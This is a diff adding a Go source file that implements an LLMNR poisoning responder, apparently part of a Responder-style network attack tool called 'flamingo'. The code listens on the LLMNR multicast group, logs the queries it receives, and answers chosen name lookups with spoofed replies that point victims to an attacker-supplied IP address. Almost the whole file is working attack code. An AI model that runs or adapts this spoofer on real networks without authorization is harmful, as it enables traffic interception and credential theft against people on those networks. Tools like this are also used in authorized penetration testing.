@@ -0,0 +1,137 @@
+package flamingo
+
+import (
+	"encoding/hex"
+	"fmt"
+	"net"
+	"sync"
+
+	"github.com/miekg/dns"
+	log "github.com/sirupsen/logrus"
+)
+
+// llmnrGroup is the IPv4 LLMNR multicast group
+var llmnrGroup = net.IPv4(224, 0, 0, 252)
+
+// ConfLLMNR describes the options for a LLMNR responder
+type ConfLLMNR struct {
+	BindPort     uint16
+	BindHost     string
+	RecordWriter *RecordWriter
+	ResponderOptions
+	shutdown bool
+	listener *net.UDPConn
+	m        sync.Mutex
+}
+
+// IsShutdown checks to see if the service is shutting down
+func (c *ConfLLMNR) IsShutdown() bool {
+	c.m.Lock()
+	defer c.m.Unlock()
+	return c.shutdown
+}
+
+// Shutdown flags the service to shut down
+func (c *ConfLLMNR) Shutdown() {
+	c.m.Lock()
+	defer c.m.Unlock()
+	if c.shutdown {
+		return
+	}
+	c.shutdown = true
+	c.listener.Close()
+}
+
+// NewConfLLMNR creates a default configuration for the LLMNR responder
+func NewConfLLMNR() *ConfLLMNR {
+	return &ConfLLMNR{
+		BindPort: 5355,
+		BindHost: "0.0.0.0",
+	}
+}
+
+// SpawnLLMNR starts a LLMNR responder
+func SpawnLLMNR(c *ConfLLMNR) error {
+	ifi, err := c.multicastInterface()
+	if err != nil {
+		return fmt.Errorf("failed to find interface %s (%s)", c.Interface, err)
+	}
+
+	listener, err := net.ListenMulticastUDP("udp4", ifi, &net.UDPAddr{IP: llmnrGroup, Port: int(c.BindPort)})
+	if err != nil {
+		return fmt.Errorf("failed to listen on %s:%d (%s)", llmnrGroup, c.BindPort, err)
+	}
+	c.listener = listener
+
+	go llmnrStart(c)
+	return nil
+}
+
+func llmnrStart(c *ConfLLMNR) {
+	log.Debugf("llmnr is listening on %s:%d", llmnrGroup, c.BindPort)
+
+	buff := make([]byte, 4096)
+	for {
+		if c.IsShutdown() {
+			log.Debugf("llmnr responder on %s:%d is shutting down", llmnrGroup, c.BindPort)
+			break
+		}
+
+		rlen, raddr, rerr := c.listener.ReadFromUDP(buff)
+		if rerr != nil {
+			continue
+		}
+
+		data := buff[0:rlen]
+		llmnrProcess(c, raddr, data)
+	}
+}
+
+func llmnrProcess(c *ConfLLMNR, raddr *net.UDPAddr, data []byte) {
+	defer func() {
+		if r := recover(); r != nil {
+			log.Debugf("llmnr decoder panic with data %s: %q", hex.EncodeToString(data), r)
+		}
+	}()
+
+	req := new(dns.Msg)
+	if err := req.Unpack(data); err != nil {
+		return
+	}
+	if req.Response || len(req.Question) == 0 {
+		return
+	}
+
+	q := req.Question[0]
+	action := responderAction(&c.ResponderOptions, q.Name, raddr.IP)
+
+	var answer net.IP
+	var rr dns.RR
+	if action == "poisoned" {
+		answer = c.AnswerIP(raddr)
+		if answer != nil {
+			rr = responderAnswerRR(q, answer, 30)
+		}
+		if rr == nil {
+			action = "ignored"
+			answer = nil
+		}
+	}
+
+	responderRecord(c.RecordWriter, "llmnr", fmt.Sprintf("%s:%d", c.BindHost, c.BindPort), raddr, dnsFormatQuestions(req.Question), action, answer)
+
+	if rr == nil {
+		return
+	}
+
+	// LLMNR responses are always sent via unicast to the querier
+	m := new(dns.Msg)
+	m.SetReply(req)
+	m.RecursionDesired = false
+	m.Answer = []dns.RR{rr}
+	resp, err := m.Pack()
+	if err != nil {
+		return
+	}
+	c.listener.WriteToUDP(resp, raddr)
+}